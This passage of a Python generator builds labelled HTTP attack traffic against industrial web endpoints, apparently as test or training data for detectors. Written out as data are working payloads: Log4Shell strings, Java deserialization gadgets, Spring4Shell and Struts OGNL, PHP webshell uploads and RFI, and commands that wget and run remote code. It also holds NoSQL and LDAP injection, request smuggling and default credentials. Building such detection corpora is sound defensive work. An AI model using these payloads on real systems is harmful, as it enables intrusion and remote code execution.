            c.add("ssti-report-preview", "ssti", "GET", "/reports/preview?" + qs([("title", t), ("period", "24h")]), c.browser(r.choice(HIST_HOSTS), accept=ACCEPT_HTML, xhr=False))
        elif k == 2:
            c.add("ssti-alarm-message", "ssti", "PUT", "/api/notifications/templates/alarm-email", c.browser(r.choice(HMI_HOSTS), ctype="application/json"),
                  jdump({"subject": "Alarm " + t, "channel": "email"}))
        else:
            c.add("ssti-label-form", "ssti", "POST", "/reports/label", c.browser(r.choice(TICKET_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("asset", "P-101"), ("label", t)]))


def java_serialized_b64(classes, tail):
    """A Java serialisation stream (magic AC ED 00 05) naming gadget classes, base64 encoded."""
    out = b"\xac\xed\x00\x05"
    for i, name in enumerate(classes):
        nb = name.encode()
        out += b"sr" + len(nb).to_bytes(2, "big") + nb + bytes([0x11 * (i + 1) % 256]) * 8 + b"\x02\x00\x01L\x00\x05valuet\x00\x12Ljava/lang/Object;xp"
    tb = tail.encode()
    out += b"t" + len(tb).to_bytes(2, "big") + tb + b"x"
    return base64.b64encode(out).decode()


def gen_java(c):
    r = c.rng
    cb = ["203.0.113.5:1389", "198.51.100.14:1099", "203.0.113.77", "x1.oob.example.net"]
    l4 = [
        "${jndi:ldap://%s/Exploit}" % cb[0],
        "${jndi:rmi://%s/o}" % cb[1],
        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/a}" % cb[2],
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/poc}" % cb[1],
        "${jndi:dns://${env:HOSTNAME}.%s}" % cb[3],
        "${jndi:ldap://${sys:java.version}.%s/a}" % cb[3],
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/b}" % cb[0],
        "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}s://%s/c}" % cb[0],
        "${${upper:j}ndi:ldap://%s/TomcatBypass/Command/Base64/d2dldCBodHRwOi8vMjAzLjAuMTEzLjc3L3g=}" % cb[0],
        "${jndi:iiop://%s/x}" % cb[2],
    ]
    places = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Cookie", "query", "json", "ocpp", "Authorization", "X-Client-Id"]
    for i, p in enumerate(l4):
        where = places[i % len(places)]
        host = r.choice(HMI_HOSTS + EV_HOSTS + OPC_HOSTS)
        if where == "query":
            c.add("log4shell", "java", "GET", "/hmi/api/tags/search?" + qs([("q", p)]), c.browser(host))
        elif where == "json":
            c.add("log4shell", "java", "POST", "/opcua/api/write", c.api(host, ctype="application/json"),
                  jdump({"nodeId": "ns=2;s=Line3.Recipe.Name", "value": p}))
        elif where == "ocpp":
            c.add("log4shell", "java", "POST", "/ocpp/CP-%05d" % r.randint(100, 99999), c.api(host, ctype="application/json", ua=r.choice(UA_CHARGERS)),
                  jdump([2, hexid(r, 8), "Authorize", {"idTag": p}]))
        elif where == "Authorization":
            c.add("log4shell", "java", "GET", "/hmi/login", c.bot(host, "Mozilla/5.0") + [("Authorization", "Basic " + base64.b64encode((p + ":x").encode()).decode())])
        elif where == "Cookie":
            c.add("log4shell", "java", "GET", "/hmi/", c.browser(host, accept=ACCEPT_HTML, xhr=False, cookie="JSESSIONID=" + p))
        elif where == "User-Agent":
            c.add("log4shell", "java", "GET", "/", c.bot(host, p, accept="text/html"))
        else:
            c.add("log4shell", "java", "GET", "/hmi/index.jsf", c.bot(host, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)") + [(where, p)])

    ser1 = java_serialized_b64(["java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
                                "org.apache.commons.collections4.functors.InvokerTransformer"], "newTransformer")
    ser2 = java_serialized_b64(["sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
                                "org.apache.commons.collections.functors.ChainedTransformer"], "bash -c {echo,d2dldCBodHRwOi8vMjAzLjAuMTEzLjUveA==}|{base64,-d}|{bash,-i}")
    ser3 = java_serialized_b64(["java.util.HashMap", "java.net.URL"], "http://ser.oob.example.net")
    c.add("java-deser-viewstate", "java", "POST", "/hmi/faces/alarms.xhtml",
          c.browser(HMI_HOSTS[1], accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False, referer="/hmi/faces/alarms.xhtml"),
          form([("alarmForm", "alarmForm"), ("alarmForm:ack", "Acknowledge"), ("javax.faces.ViewState", ser1)]))
    c.add("java-deser-param", "java", "POST", "/hmi/servlet/TagBrowser", c.api(HMI_HOSTS[3], ctype="application/x-www-form-urlencoded"),
          form([("state", ser2)]))
    c.add("java-deser-header", "java", "GET", "/scada/api/session", c.bot(HMI_HOSTS[0], "Java/1.8.0_151") + [("X-Session-State", ser3)])
    c.add("java-deser-cookie", "java", "GET", "/hmi/dashboard", c.browser(HMI_HOSTS[2], accept=ACCEPT_HTML, xhr=False, cookie="userPrefs=" + ser2))
    c.add("java-jackson-gadget", "java", "POST", "/api/recipes", c.api(HMI_HOSTS[0], ctype="application/json"),
          jdump({"name": "Batch-42", "params": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.5:1389/Exploit", "autoCommit": True}]}))
    c.add("java-fastjson-gadget", "java", "POST", "/api/v1/telemetry", c.api(r.choice(METER_HOSTS), ctype="application/json"),
          jdump({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.14:1099/Obj", "autoCommit": True}))
    c.add("java-fastjson-gadget", "java", "POST", "/api/v1/telemetry", c.api(r.choice(METER_HOSTS), ctype="application/json"),
          jdump({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                 "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.5:1389/x", "autoCommit": True}}))
    c.add("java-xstream", "java", "POST", "/api/devices/import", c.api(r.choice(GW_HOSTS), ctype="application/xml"),
          '<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
          '<target class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>wget http://203.0.113.5/x -O /tmp/x; sh /tmp/x</string></command></target>'
          '<action>start</action></handler></dynamic-proxy></sorted-set>')
    c.add("java-xmldecoder", "java", "POST", "/wls-wsat/CoordinatorPortType", c.bot(HMI_HOSTS[0].split(":")[0] + ":7001", "Mozilla/5.0", "text/xml"),
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
          '<java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3">'
          '<void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>id &gt; /tmp/o</string></void>'
          '</array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
    c.add("java-spring4shell", "java", "POST", "/hmi/api/alarms/filter", c.bot(HMI_HOSTS[1], "Mozilla/5.0", "application/x-www-form-urlencoded")
          + [("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%"), ("DNT", "1")],
          form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]))
    c.add("java-struts-ognl", "java", "GET", "/hmi/index.action", c.bot(HMI_HOSTS[3], "Mozilla/5.0")
          + [("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}")])
    c.add("java-spring-cloud-function", "java", "POST", "/functionRouter", c.bot(r.choice(EV_HOSTS), "python-requests/2.27.1", "text/plain")
          + [("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"wget http://203.0.113.5/s -O /tmp/s\")")], "x")
    c.add("java-spel-gateway", "java", "POST", "/actuator/gateway/routes/hacktest", c.bot(r.choice(GW_HOSTS), "Mozilla/5.0", "application/json"),
          jdump({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
                 "uri": "http://example.com"}))
    c.add("java-confluence-ognl", "java", "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
          c.bot("wiki.plant.example.com", "Mozilla/5.0"))
    c.add("java-el-injection", "java", "GET", "/hmi/faces/trend.xhtml?" + qs([("tag", "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")]),
          c.browser(HMI_HOSTS[1], accept=ACCEPT_HTML, xhr=False))


def gen_php_rfi(c):
    r = c.rng
    H = lambda: r.choice(DEV_HOSTS + METER_HOSTS)
    c.add("php-thinkphp", "php", "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=" + botq("wget http://203.0.113.45/t -O /tmp/t; sh /tmp/t"),
          c.bot(H(), "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))
    c.add("php-phpunit-evalstdin", "php", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", c.bot(H(), "python-requests/2.25.1", "application/x-www-form-urlencoded"),
          "<?php echo md5('phpunit_rce'); system('id'); ?>")
    c.add("php-cgi-argument", "php", "POST", "/cgi-bin/php?-d+allow_url_include%3don+-d+safe_mode%3doff+-d+suhosin.simulation%3don+-d+disable_functions%3d%22%22+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp://input+-n",
          c.bot(H(), "Mozilla/5.0", "application/x-www-form-urlencoded"), "<?php system('cd /tmp;wget http://198.51.100.77/p;chmod +x p;./p'); die(); ?>")
    c.add("php-cgi-softhyphen", "php", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
          c.bot(HMI_HOSTS[0], "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "application/x-www-form-urlencoded"), "<?php echo shell_exec('whoami'); ?>")
    ct, body = multipart(r, [("fwtype", None, None, "inverter"), ("fwfile", "fw_update.php", "application/octet-stream", "<?php @eval($_POST['x']); ?>")])
    c.add("php-webshell-upload", "php", "POST", "/upload_firmware.php", c.browser(METER_HOSTS[2], accept=ACCEPT_HTML, ctype=ct, xhr=False), body)
    ct, body = multipart(r, [("logo", "logo.png.phtml", "image/png", "\x89PNG\r\n<?php system($_GET['c']); ?>")])
    c.add("php-webshell-upload", "php", "POST", "/admin/branding.php", c.browser(DEV_HOSTS[8], accept=ACCEPT_HTML, ctype=ct, xhr=False), body)
    c.add("php-wrapper-filter", "php", "GET", "/index.php?" + form([("page", "php://filter/convert.base64-encode/resource=../config/db.php")]), c.browser(H(), accept=ACCEPT_HTML, xhr=False))
    c.add("php-wrapper-data", "php", "GET", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==&c=id", c.bot(H(), "curl/7.88.1"))
    c.add("php-phar", "php", "GET", "/api/files/info.php?" + form([("file", "phar://./uploads/logo.jpg/test.txt")]), c.browser(H(), accept=ACCEPT_HTML, xhr=False))
    c.add("php-object-injection", "php", "GET", "/status.php", c.browser(H(), accept=ACCEPT_HTML, xhr=False,
          cookie="prefs=" + pq('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:17:"/var/www/html/x.php";s:7:"cookies";a:1:{i:0;s:30:"<?php system($_GET[\'c\']); ?>";}}', safe="")))
    c.add("php-eval-param", "php", "GET", "/tools/calc.php?" + form([("expr", "1;${@system($_GET[c])}"), ("c", "id")]), c.browser(H(), accept=ACCEPT_HTML, xhr=False))

    rfi = [
        ("/index.php", [("page", "http://203.0.113.7/shell.txt?")]),
        ("/main.php", [("include", "ftp://anonymous@198.51.100.2/pub/r57.txt")]),
        ("/lang.php", [("lang", "http://198.51.100.2/c99.txt\x00")]),
        ("/report.php", [("template", "https://203.0.113.44/t.php")]),
        ("/HMIWeb/view.php", [("module", "\\\\203.0.113.9\\share\\s.php")]),
        ("/skins/load.php", [("skin", "http://203.0.113.7/x.txt?&cmd=id")]),
        ("/index.php", [("file", "//198.51.100.23/x")]),
        ("/modules/inc.php", [("path", "http://203.0.113.12/bot.txt??")]),
    ]
    for path, params in rfi:
        c.add("rfi-include", "rfi", "GET", path + "?" + form(params), r.choice([c.browser(H(), accept=ACCEPT_HTML, xhr=False), c.bot(H(), "Mozilla/5.0")]))


def gen_nosql_ldap(c):
    r = c.rng
    H = lambda: r.choice(EV_HOSTS + HMI_HOSTS)
    c.add("nosqli-login-json", "nosqli", "POST", "/api/auth/login", c.browser(H(), ctype="application/json", cookie=""), jdump({"username": "admin", "password": {"$ne": None}}))
    c.add("nosqli-login-json", "nosqli", "POST", "/api/auth/login", c.browser(H(), ctype="application/json", cookie=""), jdump({"username": {"$gt": ""}, "password": {"$gt": ""}}))
    c.add("nosqli-login-form", "nosqli", "POST", "/login", c.browser(H(), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie="", xhr=False),
          "username%5B%24ne%5D=x&password%5B%24ne%5D=x")
    c.add("nosqli-login-query", "nosqli", "GET", "/api/users?username%5B%24regex%5D=%5Eadm&password%5B%24regex%5D=%5Ea", c.bot(H(), "python-requests/2.31.0"))
    c.add("nosqli-where", "nosqli", "POST", "/api/alarms/query", c.api(H(), ctype="application/json"),
          jdump({"filter": {"$where": "this.severity > 0 || sleep(5000)"}, "limit": 50}))
    c.add("nosqli-where", "nosqli", "POST", "/api/sessions/search", c.api(EV_HOSTS[0], ctype="application/json"),
          jdump({"chargePointId": "CP-00123", "$where": "function(){var d=new Date();while(new Date()-d<5000){};return true;}"}))
    c.add("nosqli-operator-idtag", "nosqli", "POST", "/api/rfid/authorize", c.api(EV_HOSTS[1], ctype="application/json", ua=r.choice(UA_CHARGERS)),
          jdump({"idTag": {"$regex": ".*"}, "connectorId": 1}))
    c.add("nosqli-operator-query", "nosqli", "GET", "/api/meters?" + "serial%5B%24ne%5D=1&tenant%5B%24exists%5D=true", c.api(METER_HOSTS[0]))
    c.add("nosqli-js-injection", "nosqli", "GET", "/api/tickets?" + qs([("status", "open'; return true; var x='")]), c.browser(TICKET_HOSTS[0]))
    c.add("nosqli-aggregate", "nosqli", "POST", "/api/telemetry/aggregate", c.api(METER_HOSTS[1], ctype="application/json"),
          jdump({"pipeline": [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}, {"$project": {"u.password": 1, "u.apiKey": 1}}]}))
    c.add("nosqli-or", "nosqli", "POST", "/api/devices/find", c.api(GW_HOSTS[0], ctype="application/json"),
          jdump({"owner": "tenant-7", "$or": [{"owner": {"$ne": "tenant-7"}}, {"_id": {"$gt": ""}}]}))

    ld = [
        ("POST", "/login", [("user", "*)(uid=*))(|(uid=*"), ("pass", "x")]),
        ("POST", "/login", [("user", "admin)(&)"), ("pass", "anything")]),
        ("POST", "/login", [("user", "*)(|(objectClass=*)"), ("pass", "*")]),
        ("GET", "/directory/search", [("cn", "*)(userPassword=*)")]),
        ("GET", "/directory/search", [("tech", "j*)(|(memberOf=cn=Domain Admins,cn=Users,dc=plant,dc=local)")]),
        ("GET", "/api/operators/lookup", [("name", "admin*)((|userPassword=*)")]),
        ("POST", "/login", [("user", "operator)(|(password=*)"), ("pass", "x")]),
        ("GET", "/api/operators/lookup", [("name", "*))\x00")]),
    ]
    for m, path, params in ld:
        host = r.choice(HMI_HOSTS + TICKET_HOSTS)
        if m == "GET":
            c.add("ldapi", "ldapi", "GET", path + "?" + qs(params), c.browser(host))
        else:
            c.add("ldapi", "ldapi", "POST", path, c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie="", xhr=False), form(params))



def gen_crlf_protocol(c):
    r = c.rng
    crlf = [
        (HMI_HOSTS[0], "/login?returnUrl=%0d%0aSet-Cookie:%20JSESSIONID=attacker0000000000000000000000"),
        (HMI_HOSTS[1], "/logout?next=/%0d%0aLocation:%20http://203.0.113.5/hmi/login"),
        (DEV_HOSTS[0], "/redirect?url=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
        (DEV_HOSTS[1], "/%0d%0aSet-Cookie:crlf=injection"),
        (BMS_HOSTS[0], "/lang?set=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        (DEV_HOSTS[2], "/cgi-bin/redirect.cgi?target=%0aContent-Type:text/html%0a%0a%3Cscript%3Ealert(document.domain)%3C/script%3E"),
        (HMI_HOSTS[2], "/hmi/login?lang=de%0D%0ALocation:%20https://phish.example.net/"),
        (GW_HOSTS[0], "/auth/callback?state=x%250d%250aSet-Cookie:%2520ra_session=fixed"),
        (HIST_HOSTS[0], "/sso/redirect?to=%0dSet-Cookie:%20auth=1"),
        (EV_HOSTS[0], "/portal/%0d%0aX-Forwarded-Host:%20203.0.113.5%0d%0a"),
    ]
    for host, uri in crlf:
        c.add("crlf-redirect", "crlf", "GET", uri, r.choice([c.browser(host, accept=ACCEPT_HTML, xhr=False), c.bot(host, "curl/8.4.0")]))
    c.add("crlf-form", "crlf", "POST", "/login", c.browser(TICKET_HOSTS[0], accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie="", xhr=False),
          form([("username", "tech07"), ("password", "Winter2025!"), ("next", "/tickets\r\nSet-Cookie: sessionid=attacker; Path=/")]))
    c.add("crlf-json", "crlf", "POST", "/api/auth/sso", c.browser(GW_HOSTS[2], ctype="application/json", cookie=""),
          jdump({"redirect": "/dashboard\r\nLocation: http://198.51.100.23/\r\n\r\n", "provider": "azuread"}))

    h = lambda host: [("Host", host), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")]
    c.add("smuggling-cl-te", "protocol", "POST", "/hmi/api/status", h(HMI_HOSTS[0]) + [("Content-Type", "application/x-www-form-urlencoded"), ("Transfer-Encoding", "chunked")],
          "0\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Ignore: X")
    c.add("smuggling-te-obfuscated", "protocol", "POST", "/", h(GW_HOSTS[0]) + [("Content-Type", "application/x-www-form-urlencoded"), ("Transfer-Encoding", "xchunked")],
          "0\r\n\r\nPOST /api/gateway/users HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 40\r\n\r\n{\"user\":\"x\",\"role\":\"admin\",\"pw\":\"x\"}")
    c.add("smuggling-te-duplicate", "protocol", "POST", "/api/v1/telemetry", h(METER_HOSTS[0]) + [("Content-Type", "application/json"), ("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity")],
          "0\r\n\r\nGET /api/firmware/download?file=config.bin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    c.add("smuggling-te-space", "protocol", "POST", "/ocpp/CP-00042", h(EV_HOSTS[0]) + [("Content-Type", "application/json"), ("Transfer-Encoding", " chunked")],
          "0\r\n\r\nDELETE /api/chargepoints/CP-00042 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    c.add("range-overflow", "protocol", "GET", "/HMIWeb/images/logo.png", h(HMI_HOSTS[0]) + [("Range", "bytes=0-18446744073709551615")])
    c.add("range-dos", "protocol", "HEAD", "/", h(DEV_HOSTS[3]) + [("Range", "bytes=0-," + ",".join("5-%d" % i for i in range(0, 1300, 10))), ("Request-Range", "bytes=5-0,1-1,2-2,3-3")])
    c.add("host-duplicate", "protocol", "GET", "/admin/", [("Host", HMI_HOSTS[1]), ("Host", "127.0.0.1"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")])
    c.add("host-injection", "protocol", "POST", "/api/auth/forgot-password", [("Host", "203.0.113.66"), ("X-Forwarded-Host", "203.0.113.66"), ("User-Agent", "python-requests/2.31.0"),
          ("Accept", "*/*"), ("Content-Type", "application/json")], jdump({"email": "plant.admin@example.com"}))


SCANNER_UAS = {
    "nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "zgrab": "Mozilla/5.0 zgrab/0.x",
    "nuclei": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "sqlmap": "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "dirbuster": "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "zmeu": "ZmEu",
    "gobuster": "gobuster/3.6",
    "wpscan": "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "ffuf": "Fuzz Faster U Fool v2.1.0-dev",
    "hydra": "Mozilla/4.0 (Hydra)",
}


def gen_scanner(c):
    r = c.rng
    S = SCANNER_UAS
    H = lambda: r.choice(DEV_HOSTS + HMI_HOSTS + BMS_HOSTS)
    probes = [
        ("nmap", "GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", []),
        ("nmap", "GET", "/HNAP1/", []),
        ("nmap", "GET", "/Portal0000.htm", []),
        ("nmap", "GET", "/evox/about", []),
        ("masscan", "GET", "/", []),
        ("zgrab", "GET", "/cgi-bin/luci", []),
        ("zgrab", "GET", "/boaform/admin/formLogin?username=adminisp&psd=adminisp", []),
        ("nuclei", "GET", "/webadmin/", []),
        ("nuclei", "GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=cat+/proc/cpuinfo&curpath=/&currentsetting.htm=1", []),
        ("nuclei", "GET", "/actuator/env", []),
        ("nuclei", "GET", "/system.ini?loginuse&loginpas", []),
        ("nuclei", "GET", "/.git/config", []),
        ("nikto", "GET", "/cgi-bin/test-cgi", []),
        ("nikto", "GET", "/goform/", []),
        ("nikto", "GET", "/server-status", []),
        ("nikto", "GET", "/HMIWeb/*~1*/a.aspx", []),
        ("dirbuster", "GET", "/backup/config.tar.gz", []),
        ("dirbuster", "HEAD", "/scada/", []),
        ("gobuster", "GET", "/.env", []),
        ("gobuster", "GET", "/web.config.bak", []),
        ("ffuf", "GET", "/api/v1/.svn/entries", []),
        ("zmeu", "GET", "/w00tw00t.at.blackhats.romanian.anti-sec:)", []),
        ("zmeu", "GET", "/phpMyAdmin/scripts/setup.php", []),
        ("wpscan", "GET", "/wp-login.php", []),
        ("sqlmap", "GET", "/api/alarms?" + qs([("area", "Area1"), ("limit", "100")]), []),
        ("hydra", "GET", "/", [("Authorization", "Basic " + base64.b64encode(b"admin:admin").decode())]),
    ]
    for tool, m, uri, extra in probes:
        c.add("scanner-" + tool, "scanner", m, uri, c.bot(H(), S[tool]) + extra)

    # default-credential attempts against well-known device panels
    creds = [
        ("/manager/html", "tomcat:tomcat", "python-requests/2.25.1"),
        ("/", "root:xc3511", "Hello, World"),
        ("/ISAPI/Security/userCheck", "admin:12345", "Mozilla/5.0"),
        ("/cgi-bin/luci", "root:admin", "Go-http-client/1.1"),
        ("/ord?file:%5Emodules/", "tridium:niagara", "Go-http-client/1.1"),
        ("/webadmin", "admin:password", "Mozilla/5.0"),
    ]
    for path, cred, ua in creds:
        c.add("scanner-default-creds", "scanner", "GET", path, c.bot(H(), ua) + [("Authorization", "Basic " + base64.b64encode(cred.encode()).decode())])
    for path, body in [("/goform/webLogin", "username=admin&password=admin&submit.htm%3Flogin.htm=Send"),
                       ("/boaform/admin/formLogin", "username=admin&psd=admin"),
                       ("/login.cgi", "username=admin&password=1234&login=Login"),
                       ("/HNAP1/", None)]:
        if body is None:
            c.add("scanner-default-creds", "scanner", "POST", path, c.bot(H(), "Mozilla/5.0", "text/xml; charset=utf-8") + [("SOAPAction", '"http://purenetworks.com/HNAP1/Login"')],
                  '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Login xmlns="http://purenetworks.com/HNAP1/"><Action>request</Action><Username>Admin</Username><LoginPassword></LoginPassword><Captcha></Captcha></Login></soap:Body></soap:Envelope>')
        else:
            c.add("scanner-default-creds", "scanner", "POST", path, c.bot(H(), r.choice(["Hello, World", "Mozilla/5.0", "python-requests/2.20.0"]), "application/x-www-form-urlencoded"), body)


def gen_generic(c):
    r = c.rng
    c.add("proto-pollution", "generic", "POST", "/settings/user", c.api(NR_HOSTS[0], ctype="application/json"),
          jdump({"editorTheme": "dark", "__proto__": {"isAdmin": True, "permissions": ["*"]}}))
    c.add("proto-pollution", "generic", "GET", "/api/widgets?__proto__[role]=admin&constructor[prototype][admin]=true".replace("[", "%5B").replace("]", "%5D"), c.browser(HMI_HOSTS[0]))
    c.add("proto-pollution", "generic", "POST", "/api/dashboards/merge", c.api(HMI_HOSTS[3], ctype="application/json"),
          jdump({"layout": {"constructor": {"prototype": {"shell": "/bin/sh", "NODE_OPTIONS": "--require /proc/self/environ"}}}}))
    c.add("eval-injection", "generic", "POST", "/api/tags/calculated", c.api(HMI_HOSTS[1], ctype="application/json"),
          jdump({"name": "Line3.Efficiency", "expression": "require('child_process').execSync('cat /etc/passwd').toString()"}))
    c.add("eval-injection", "generic", "POST", "/api/kpi/formula", c.api(HIST_HOSTS[2], ctype="application/json"),
          jdump({"kpi": "OEE", "formula": "__import__('os').popen('id').read()"}))
    c.add("eval-injection", "generic", "GET", "/api/convert?" + qs([("unit", "degC"), ("expr", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')")]),
          c.browser(METER_HOSTS[0]))
    c.add("format-string", "generic", "POST", "/goform/setDeviceName", c.bot(DEV_HOSTS[0], "python-requests/2.31.0", "application/x-www-form-urlencoded"),
          form([("devName", "%x%x%x%x%x%x%x%x%n%n%n%n"), ("apply", "1")]))
    c.add("overflow", "generic", "POST", "/goform/SetSysTimeCfg", c.bot(DEV_HOSTS[3], "python-requests/2.31.0", "application/x-www-form-urlencoded"),
          "timeType=manual&time=" + "A" * 1500 + "%90%90%90%90%d4%1a%40%00")
    c.add("overflow", "generic", "GET", "/cgi-bin/webcm?getpage=" + "B" * 2048, c.bot(DEV_HOSTS[5], "Mozilla/5.0"))
    c.add("mass-assignment-admin", "generic", "POST", "/api/auth/register", c.api(EV_HOSTS[2], ctype="application/json", auth=False),
          jdump({"email": "x@example.net", "password": "x", "role": "superadmin", "isAdmin": True, "tenantId": "*"}))


def gen_attacks():
    c = Corpus("attacks", SEED_ATTACKS)
    gen_rce(c)
    gen_lfi(c)
    gen_sqli(c)
    gen_xss(c)
    gen_xxe(c)
    gen_ssrf(c)
    gen_ssti(c)
    gen_java(c)
    gen_php_rfi(c)
    gen_nosql_ldap(c)
    gen_crlf_protocol(c)
    gen_scanner(c)
    gen_generic(c)
    return c.rows


# ---------------------------------------------------------------------------
# benign
# ---------------------------------------------------------------------------

TAGS = ["PLC1.Tank_Level", "PLC1.Pump[2].Speed", "Line3.Filler.Count", "Area1.Boiler.Temp", "Channel1.Device1.40001",
        "Modbus:RTU17:HR40012", "[PLC_Line2]Program:MainProgram.Motor_Run", "AHU-1.SAT", "Substation/Feeder3/Ia",
        "S7-1500.DB10.DBD4", "Boiler_01/Drum_Pressure", "FIC101.PV", "TIC102.SP", "LT-101.PV", "PT-205.PV",
        "Line2.Conveyor[4].Running", "WWTP.Aeration.Basin2.DO", "Chiller_2:CHWS_Temp", "PV.Inverter03.AC_Power",
        "Site1.Meter.Main.kWh_Import", "Compressor.C2.Discharge_P", "Kiln1.Zone[3].TempPV", "Tank_Farm.T-204.Level_pct"]
UNITS = ["m", "bar", "degC", "%", "kW", "kWh", "A", "V", "Hz", "m3/h", "rpm", "l/min", "ppm", "mg/l", "mm/s"]
OPERATORS = ["op01", "op07", "j.smith", "m.mueller", "a.garcia", "k.nakamura", "shift_lead_B", "r.okafor", "l.dubois", "p.kowalski"]
COMMENTS = [
    "Ack - level sensor LT-101 flapping, maintenance ticket #4521 opened",
    "Pump P-101 tripped on overload; reset at MCC-2 & restarted, running OK @ 48.5 Hz",
    "Pressure < 2.0 bar during CIP step 3 (expected)",
    "Temp > 85 °C for ~3 min, cooling water valve TV-12 was at 0% -> opened manually",
    "Operator's note: alarm caused by planned shutdown of Line 2",
    "Überdruck an V-12 nach Umschaltung, Ventil manuell geschlossen.",
    "False alarm - comms loss to RTU-17 (GPRS), back online 14:32",
